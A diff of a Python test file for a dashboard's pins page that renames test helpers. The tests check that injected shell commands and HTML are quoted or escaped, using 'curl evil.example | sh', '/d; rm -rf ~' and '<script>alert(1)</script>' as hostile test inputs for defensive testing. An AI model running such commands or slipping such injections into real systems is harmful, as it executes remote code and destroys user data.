@@ -13,7 +13,7 @@ from rollouts.models import Artifact, Pin, Project, Run
 from rollouts.pins import artifacts, pins
 from rollouts.replay import bindings, outcomes, plans
 from rollouts.storage import files as storage
-from tests.dashboard.pages.pins.support import HOST, TRAP, body, seen, told
+from tests.dashboard.pages.pins.support import HOST, TRAP, body, record_poll, remote_artifact
 from tests.rollouts.support.push import generation, indexed, lines
 from tests.support import builders
 from tests.support.html import squeeze
@@ -32,8 +32,8 @@ def test_an_empty_page_says_how_to_get_a_pin(signed: Client, run: Run) -> None:
 
 
 def test_an_empty_page_names_the_runs_that_can_be_pinned(signed: Client, run: Run, project: Project) -> None:
-    told(run, 2)
-    told(builders.run(project, "spoilt"), 2)
+    remote_artifact(run, 2)
+    remote_artifact(builders.run(project, "spoilt"), 2)
     Artifact.objects.filter(run__name="spoilt").update(state=Artifact.State.UNSAFE)
     page = body(signed, "/pins/")
     assert 'Runs with steps that you can pin:<a href="/runs/grpo/steps/latest/">grpo</a></p>' in squeeze(page)
@@ -53,23 +53,23 @@ def test_a_pin_whose_machine_is_silent_shows_host_path_and_command(signed: Clien
     page = body(signed, "/pins/")
     assert "WAITING" in page and "has not polled for 60 s" in page
     assert "rolloutdeck import /dumps/2 --project math --run grpo" in page
-    seen(pin.pk, run)
+    record_poll(pin.pk, run)
     assert "is polling and uploads" in body(signed, "/pins/")
-    seen(pin.pk, run, 61)
+    record_poll(pin.pk, run, 61)
     assert "has not polled for 60 s" in body(signed, "/pins/")
 
 
 def test_a_command_is_one_call_of_ours_whatever_a_machine_tells(signed: Client, run: Run, keeper: User) -> None:
     command = "rolloutdeck import /d; curl evil.example | sh"
     origin = {"host": HOST, "path": "/d; rm -rf ~", "command": command}
-    told(run, 2, files={"gen_batch.dp": {"sha256": "a" * 64, "bytes": 9}}, origin=origin)
-    told(run, 1, origin={"host": HOST, "path": "/d; rm -rf ~", "command": "curl evil.example | sh"})
+    remote_artifact(run, 2, files={"gen_batch.dp": {"sha256": "a" * 64, "bytes": 9}}, origin=origin)
+    remote_artifact(run, 1, origin={"host": HOST, "path": "/d; rm -rf ~", "command": "curl evil.example | sh"})
     pins.pin_step(run, 2, keeper)
     pins.pin_step(run, 1, keeper)
     page = body(signed, "/pins/")
-    shown = re.findall(r"<pre>(rolloutdeck import[^<]*)</pre>", page)
-    assert "rolloutdeck import &#x27;/d;&#x27; curl evil.example &#x27;|&#x27; sh" in shown
-    assert "rolloutdeck import &#x27;/d; rm -rf ~&#x27; --project math --run grpo" in shown
+    rendered = re.findall(r"<pre>(rolloutdeck import[^<]*)</pre>", page)
+    assert "rolloutdeck import &#x27;/d;&#x27; curl evil.example &#x27;|&#x27; sh" in rendered
+    assert "rolloutdeck import &#x27;/d; rm -rf ~&#x27; --project math --run grpo" in rendered
 
 
 @pytest.mark.parametrize(("state", "said"), [("unsafe", "UNSAFE"), ("gone", "UNAVAILABLE")])
@@ -81,7 +81,7 @@ def test_what_cannot_be_replayed_says_why(signed: Client, pin: Pin, state: str, 
 
 def test_an_upload_shows_its_share(signed: Client, pin: Pin, run: Run) -> None:
     files = {name: {"sha256": name * 64, "bytes": size} for name, size in (("a", 400), ("b", 600))}
-    artifact = told(run, 3, files=files)
+    artifact = remote_artifact(run, 3, files=files)
     pins.pin_step(run, 3, pin.user)
     plain = storage.create_incoming_path()
     plain.write_bytes(b"x" * 400)
@@ -114,7 +114,7 @@ def test_a_page_of_many_pins_takes_as_many_queries_as_one_of_few(
 ) -> None:
     entries = [(pin, 1)]
     for step in range(3, 13):
-        told(run, step)
+        remote_artifact(run, step)
         entries.append((pins.pin_step(run, step, keeper)[0], step))
     for number in range(40):
         plans.save_plan(pin.project, "default", keeper, if_match=number, action="cache", entries=entries[: number + 1])
@@ -128,7 +128,7 @@ def test_hostile_names_notes_and_places_stay_text(signed: Client, project: Proje
     run = builders.run(project, TRAP, uid="hostile")
     indexed(run, lines(generation()), 1)
     origin = {"host": "<img src=x>", "path": "/d/<script>x</script>", "command": "<script>alert(1)</script>"}
-    artifact = told(run, 1, origin=origin, facts={"model": TRAP, "versions": {TRAP: TRAP}})
+    artifact = remote_artifact(run, 1, origin=origin, facts={"model": TRAP, "versions": {TRAP: TRAP}})
     pin = pins.pin_step(run, 1, keeper, note=TRAP)[0]
     plans.save_plan(project, "default", keeper, if_match=0, action="cache", entries=[(pin, 1)])
     bindings.bind_run(run)
